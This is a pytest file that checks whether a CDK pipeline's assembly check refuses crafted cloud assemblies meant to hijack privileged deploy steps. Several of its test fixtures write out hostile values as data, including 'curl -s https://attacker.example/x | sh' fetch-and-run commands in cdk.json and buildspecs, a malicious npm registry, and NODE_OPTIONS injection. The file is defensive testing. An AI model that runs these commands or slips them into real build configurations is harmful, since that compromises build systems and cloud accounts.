"""A commit cannot steer a privileged step through the files of its assembly.

Each attack is a crafted copy of the session's fixture assembly (hard links: no synth per case),
refused by the check that self-mutation, the security diffs and the definition check run first, or
made harmless by how the step runs the CDK CLI.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from config import AppConfig
from pipeline import assembly_check, guard
from tests.conftest import StackArtifact, resources_of


@pytest.fixture
def assembly(assembly_dir: Path, tmp_path: Path) -> Path:
    """A copy of the fixture app's assembly that a test may change (files are hard links: rewrite, never edit)."""
    copy = tmp_path / "assembly"
    shutil.copytree(assembly_dir, copy, copy_function=os.link)
    return copy


def _write(path: Path, content: Any) -> None:
    path.unlink(missing_ok=True)  # break the hard link to the session's assembly
    path.write_text(content if isinstance(content, str) else json.dumps(content, indent=1), encoding="utf-8")


def _json(path: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return data


def _problems(root: Path) -> list[str]:
    return assembly_check.check(root).problems


def _refused(root: Path, *expected: str) -> None:
    problems = _problems(root)
    for text in expected:
        assert any(text in line for line in problems), (text, problems)


def _stage_asset_manifest(root: Path) -> Path:
    return next(p for p in sorted(root.glob("assembly-*/*.assets.json")) if _json(p).get("dockerImages"))


def test_the_fixture_assembly_is_admitted_with_its_pipeline_account_stacks(assembly_dir: Path) -> None:
    checked = assembly_check.check(assembly_dir)
    assert checked.problems == []
    manifest = _json(assembly_dir / "manifest.json")["artifacts"]
    top_level = [k for k, v in manifest.items() if v["type"] == "aws:cloudformation:stack"]
    assert sorted(checked.top_level_stacks) == sorted(top_level)
    assert "Pipeline" in checked.top_level_stacks
    assert all(not name.startswith("assembly-") for name in checked.top_level_stacks)


@pytest.mark.parametrize("where", [".", "assembly-Pipeline-Dev", "asset.*"])
@pytest.mark.parametrize("name", sorted(assembly_check.PROJECT_FILES))
def test_a_cdk_project_file_anywhere_in_the_assembly_is_refused(assembly: Path, where: str, name: str) -> None:
    directory = assembly if where == "." else sorted(d for d in assembly.glob(where) if d.is_dir())[0]
    _write(directory / name, {"build": "curl -s https://attacker.example/x | sh"})
    _refused(assembly, f"{name}: the CDK CLI runs and reads")


def test_a_file_synthesis_does_not_write_is_refused(assembly: Path) -> None:
    _write(assembly / "payload.sh", "#!/bin/sh\n")
    _write(assembly / "assembly-Pipeline-Dev" / "extra.template.yaml", "{}")
    _refused(assembly, "payload.sh is not a file CDK synthesis writes", "extra.template.yaml is not a file")


def test_a_symbolic_link_is_refused(assembly: Path) -> None:
    (assembly / "asset.link").symlink_to("/etc")
    _refused(assembly, "asset.link is a symbolic link")


def test_a_redirected_template_is_refused(assembly: Path) -> None:
    manifest = _json(assembly / "manifest.json")
    manifest["artifacts"]["Pipeline"]["properties"]["templateFile"] = "assembly-Pipeline-Dev/other.template.json"
    _write(assembly / "manifest.json", manifest)
    _refused(assembly, "artifact Pipeline: templateFile is 'assembly-Pipeline-Dev/other.template.json'")


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("tags", {"SECURITY_CHECK": "ALLOW_APPROVE"}),
        ("parameters", {"BootstrapVersion": "/attacker/parameter"}),
        ("notificationArns", ["arn:aws:sns:us-east-1:999999999999:topic"]),
    ],
)
def test_stack_settings_outside_the_template_are_refused(assembly: Path, key: str, value: Any) -> None:
    # None of these is in the template the definition check compares; the CLI applies each one.
    manifest = _json(assembly / "manifest.json")
    manifest["artifacts"]["Pipeline"]["properties"][key] = value
    _write(assembly / "manifest.json", manifest)
    _refused(assembly, f"artifact Pipeline sets {key}")


def test_another_deploy_role_is_refused(assembly: Path) -> None:
    manifest = _json(assembly / "manifest.json")
    props = manifest["artifacts"]["Pipeline"]["properties"]
    props["cloudFormationExecutionRoleArn"] = props["cloudFormationExecutionRoleArn"].replace("cfn-exec", "admin")
    _write(assembly / "manifest.json", manifest)
    _refused(assembly, "artifact Pipeline: cloudFormationExecutionRoleArn is")


def test_a_top_level_stack_of_another_account_is_refused(
    assembly: Path, monkeypatch: pytest.MonkeyPatch, fixture_config: AppConfig
) -> None:
    other = "123456789012"  # AWS's documented example account, none of the fixture's
    assert other != fixture_config.pipeline.account
    monkeypatch.setenv("PIPELINE_ACCOUNT", other)
    _refused(assembly, f"only the pipeline's account {other} is deployed by self-mutation")


def test_an_asset_built_by_a_command_is_refused(assembly: Path) -> None:
    path = _stage_asset_manifest(assembly)
    manifest = _json(path)
    image = next(iter(manifest["dockerImages"].values()))
    image["source"] = {"executable": ["sh", "-c", "curl -s https://attacker.example/x | sh"]}
    _write(path, manifest)
    _refused(assembly, "is built by running")


def test_an_asset_source_outside_the_assembly_is_refused(assembly: Path) -> None:
    path = _stage_asset_manifest(assembly)
    manifest = _json(path)
    next(iter(manifest["dockerImages"].values()))["source"]["directory"] = "../../../root"
    _write(path, manifest)
    _refused(assembly, "outside the assembly")


def test_an_asset_published_elsewhere_is_refused(assembly: Path) -> None:
    path = _stage_asset_manifest(assembly)
    manifest = _json(path)
    destination = next(iter(next(iter(manifest["files"].values()))["destinations"].values()))
    destination["bucketName"] = "attacker-bucket"
    _write(path, manifest)
    _refused(assembly, "bucketName is 'attacker-bucket'")


def test_code_published_in_the_pipeline_account_is_refused(assembly: Path) -> None:
    # The pipeline account's stacks carry their functions inline: an asset there is code the commit's synth wrote,
    # which self-mutation would publish under a name the compared template may already use.
    path = assembly / "Pipeline.assets.json"
    manifest = _json(path)
    template = next(iter(manifest["files"].values()))
    code = {**template, "source": {"path": "asset." + "a" * 64, "packaging": "zip"}}
    manifest["files"]["a" * 64] = code
    _write(path, manifest)
    _refused(assembly, f"file asset {'a' * 64} is not Pipeline's template")


def _dev(root: Path) -> tuple[Path, dict[str, Any], str]:
    """The Dev stage's manifest, parsed, and the id of its Service stack."""
    path = root / "assembly-Pipeline-Dev" / "manifest.json"
    manifest = _json(path)
    service = next(k for k, v in manifest["artifacts"].items() if v.get("displayName") == "Pipeline/Dev/Service")
    return path, manifest, service


def test_a_stage_stack_displayed_as_a_pipeline_stack_is_refused(assembly: Path) -> None:
    # `cdk deploy Pipeline --exclusively` selects every stack displayed as "Pipeline", nested ones included:
    # a stage stack so displayed would be deployed by self-mutation without the definition check seeing it.
    path, manifest, service = _dev(assembly)
    manifest["artifacts"][service]["displayName"] = "Pipeline"
    _write(path, manifest)
    _refused(assembly, "is displayed as 'Pipeline', not as a stack of Pipeline/Dev", "is displayed as 'Pipeline', like")


def test_a_stage_stack_hidden_from_its_security_diff_is_refused(assembly: Path) -> None:
    # The diff selects "Pipeline/Dev/*": a stack displayed otherwise would deploy unseen by it.
    path, manifest, service = _dev(assembly)
    manifest["artifacts"][service]["displayName"] = "Service"
    _write(path, manifest)
    _refused(assembly, "is displayed as 'Service', not as a stack of Pipeline/Dev")


def test_a_stage_stack_under_another_name_than_the_pipeline_deploys_is_refused(assembly: Path) -> None:
    # The diff compares a stack by the name in the assembly; the pipeline deploys the name in its definition.
    path, manifest, service = _dev(assembly)
    manifest["artifacts"][service]["properties"]["stackName"] = "Dev-Keys"
    _write(path, manifest)
    _refused(assembly, "is deployed as 'Dev-Service', but its stack in the assembly is 'Dev-Keys'")


def test_a_template_deployed_from_another_object_is_refused(assembly: Path) -> None:
    # The CLI deploys from stackTemplateAssetObjectUrl, not from the file the checks read.
    manifest = _json(assembly / "manifest.json")
    props = manifest["artifacts"]["Pipeline"]["properties"]
    props["stackTemplateAssetObjectUrl"] = re.sub(r"[0-9a-f]{64}", "b" * 64, props["stackTemplateAssetObjectUrl"])
    props["terminationProtection"] = True
    _write(assembly / "manifest.json", manifest)
    _refused(assembly, "its template would be deployed from", "terminationProtection is True, not False")


@pytest.mark.parametrize("kind", ["aws:cdk:asset", "aws:cdk:stack-tags"])
def test_metadata_the_cli_acts_on_is_refused(assembly: Path, kind: str) -> None:
    path = assembly / "Pipeline.metadata.json"
    metadata = _json(path)
    metadata["/Pipeline"].append({"type": kind, "data": {"path": "/", "id": "x"}})
    _write(path, metadata)
    _refused(assembly, f"carries metadata of type {kind!r}")


def test_a_repeated_key_is_refused(assembly: Path) -> None:
    # Parsers disagree on which of two equal keys counts: the check and the CLI must read the same manifest.
    text = (assembly / "manifest.json").read_text()
    _write(assembly / "manifest.json", text.replace('"version":', '"version": "1.0.0", "version":', 1))
    _refused(assembly, "repeated keys ['version']")


def test_a_directory_in_a_stage_assembly_is_refused(assembly: Path) -> None:
    hidden = assembly / "assembly-Pipeline-Dev" / "Hidden.template.json"
    hidden.mkdir()
    _write(hidden / "cdk.json", {})
    _refused(assembly, "Hidden.template.json is not a file CDK synthesis writes", "Hidden.template.json/cdk.json")


def _buildspec(root: Path) -> Path:
    return sorted(root.glob("buildspec-*.yaml"))[0]


def test_an_asset_buildspec_that_runs_anything_else_is_refused(assembly: Path) -> None:
    path = _buildspec(assembly)
    spec = _json(path)
    spec["phases"]["build"]["commands"].append("curl -s https://attacker.example/x | sh")
    _write(path, spec)
    _refused(assembly, "which is not cdk-assets publishing an asset")


def test_an_asset_buildspec_with_other_installs_or_sections_is_refused(
    assembly: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _buildspec(assembly)
    spec = _json(path)
    monkeypatch.setenv("ASSET_INSTALL_COMMANDS", json.dumps(spec["phases"]["install"]["commands"]))
    assert _problems(assembly) == []
    spec["phases"]["install"]["commands"].insert(0, "pip install attacker-package")
    spec["env"] = {"variables": {"NODE_OPTIONS": "--require /tmp/x.js"}}
    _write(path, spec)
    _refused(assembly, "has sections other than the install and build phases")
    del spec["env"]
    _write(path, spec)
    _refused(assembly, "installs ['pip install attacker-package'")


def test_an_asset_buildspec_publishing_an_unlisted_asset_is_refused(assembly: Path) -> None:
    path = _buildspec(assembly)
    spec = _json(path)
    command = spec["phases"]["build"]["commands"][0]
    spec["phases"]["build"]["commands"][0] = re.sub(r'publish "[0-9a-f]{64}', 'publish "' + "e" * 64, command)
    _write(path, spec)
    _refused(assembly, "does not list")


# --- the steps that read the assembly with privileges -------------------------------------------------


@pytest.fixture(scope="module")
def pipeline_template(stack: Callable[[str, str], StackArtifact]) -> dict[str, Any]:
    return stack("", "Pipeline").template_json


def _commands(project: dict[str, Any]) -> list[str]:
    """A project's buildspec commands, tokens rendered as placeholders (none for a buildspec read from a file)."""
    spec = project["Properties"]["Source"]["BuildSpec"]
    if isinstance(spec, str) and not spec.startswith("{"):
        return []
    if isinstance(spec, dict):
        spec = "".join(part if isinstance(part, str) else "TOKEN" for part in spec["Fn::Join"][1])
    phases = json.loads(spec)["phases"]
    return [c for phase in ("install", "pre_build", "build") for c in phases.get(phase, {}).get("commands", [])]


def _project_running(template: dict[str, Any], text: str) -> list[str]:
    every = [_commands(p) for p in resources_of(template, "AWS::CodeBuild::Project").values()]
    (commands,) = [c for c in every if any(text in x for x in c)]
    return commands


def _run(command: str, source_dir: Path, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    """`command` as CodeBuild would run it (one shell), with the CDK CLI and npm replaced by stand-ins that print
    their arguments."""
    fake = tmp_path / "bin"
    fake.mkdir(exist_ok=True)
    for tool in ("cdk", "npm"):
        (fake / tool).write_text(f'#!/bin/sh\necho "{tool} run in $(pwd): $*"\n')
        (fake / tool).chmod(0o755)
    if not (fake / "python3").exists():
        (fake / "python3").symlink_to(sys.executable)
    environment = {**os.environ, "CODEBUILD_SRC_DIR": str(source_dir), "PATH": f"{fake}:{os.environ['PATH']}"}
    return subprocess.run(["bash", "-ec", command], capture_output=True, text=True, env=environment, check=False)


def test_self_mutation_deploys_exactly_the_admitted_stacks_from_an_empty_directory(
    pipeline_template: dict[str, Any], assembly_dir: Path, tmp_path: Path
) -> None:
    # The whole build, install phase first (it checks the assembly and unpacks the checks the build runs).
    ran = _run(" && ".join(_project_running(pipeline_template, "--exclusively")), assembly_dir, tmp_path)
    assert ran.returncode == 0, ran.stderr
    (line,) = [line for line in ran.stdout.splitlines() if line.startswith("cdk run in")]
    directory, arguments = re.fullmatch(r"cdk run in (\S+): (.*)", line).groups()  # type: ignore[union-attr]
    assert Path(directory) != assembly_dir
    assert not Path(directory).is_relative_to(assembly_dir)
    stacks = assembly_check.check(assembly_dir).top_level_stacks
    assert arguments == f"-a {assembly_dir} deploy {' '.join(stacks)} --exclusively --require-approval=never --verbose"


def test_self_mutation_refuses_a_crafted_assembly_before_running_the_cli(
    pipeline_template: dict[str, Any], assembly: Path, tmp_path: Path
) -> None:
    _write(assembly / "cdk.json", {"build": "touch /tmp/attacker-ran"})
    ran = _run(" && ".join(_project_running(pipeline_template, "--exclusively")), assembly, tmp_path)
    assert ran.returncode == assembly_check.REFUSED
    assert "cdk.json: the CDK CLI runs and reads" in ran.stderr
    assert "npm run in" not in ran.stdout
    assert "cdk run in" not in ran.stdout


def test_self_mutation_checks_the_assembly_before_it_installs_the_cli(
    pipeline_template: dict[str, Any], assembly: Path, tmp_path: Path
) -> None:
    # npm reads an .npmrc in its working directory: another registry would install another CLI.
    (install,) = [c for c in _project_running(pipeline_template, "--exclusively") if "npm install -g aws-cdk@" in c]
    prefix = install.split(" && npm install")[0]
    assert prefix.endswith('&& cd "$(mktemp -d)"')
    _write(assembly / ".npmrc", "registry=https://attacker.example/\n")
    ran = _run(prefix, assembly, tmp_path)
    assert ran.returncode == assembly_check.REFUSED
    assert ".npmrc is not a file CDK synthesis writes" in ran.stderr


def test_the_security_diff_checks_the_assembly_and_runs_the_cli_outside_it(
    pipeline_template: dict[str, Any], assembly: Path, tmp_path: Path
) -> None:
    commands = _project_running(pipeline_template, "cdk diff")
    (diff,) = [c for c in commands if "cdk diff" in c]
    assert 'cd "$(mktemp -d)" && cdk diff --app "$CODEBUILD_SRC_DIR" ' in diff
    (install,) = [c for c in commands if "npm install -g aws-cdk@" in c]
    prefix = install.split(" && npm install")[0]  # the check and the move to an empty directory
    assert prefix.endswith('&& cd "$(mktemp -d)"')
    ran = _run(f"{prefix} && pwd", assembly, tmp_path)
    assert ran.returncode == 0, ran.stderr
    assert not Path(ran.stdout.strip()).is_relative_to(assembly)
    _write(assembly / "cdk.context.json", {})
    assert _run(prefix, assembly, tmp_path).returncode == assembly_check.REFUSED


def test_every_step_carries_the_deployed_checks_as_they_are_now(pipeline_template: dict[str, Any]) -> None:
    unpack = guard.unpack_checks()
    carrying = [
        name
        for name, project in resources_of(pipeline_template, "AWS::CodeBuild::Project").items()
        if any(unpack in c for c in _commands(project))
    ]
    # The definition check, self-mutation and the security diff.
    assert len(carrying) == 3, carrying


def test_the_cli_runs_a_cdk_json_build_only_in_its_working_directory(assembly_dir: Path, tmp_path: Path) -> None:
    # Why the steps leave the assembly: the attack is real where the CLI runs in it, and gone where it does not.
    small = tmp_path / "small"
    small.mkdir()
    for name in ("manifest.json", "cdk.out"):
        shutil.copy(assembly_dir / name, small / name)
    manifest = _json(small / "manifest.json")
    manifest["artifacts"] = {}
    _write(small / "manifest.json", manifest)
    marker = tmp_path / "ran"
    _write(small / "cdk.json", {"build": f"touch {marker}"})
    cli = shutil.which("cdk")
    assert cli is not None, "the pinned CDK CLI (node_modules/.bin) is on PATH"
    empty = tmp_path / "empty"
    empty.mkdir()
    subprocess.run([cli, "-a", str(small), "ls"], cwd=empty, capture_output=True, check=False, timeout=120)
    assert not marker.exists()
    subprocess.run([cli, "-a", ".", "ls"], cwd=small, capture_output=True, check=False, timeout=120)
    assert marker.exists(), "the CLI no longer runs a build command from its working directory's cdk.json"
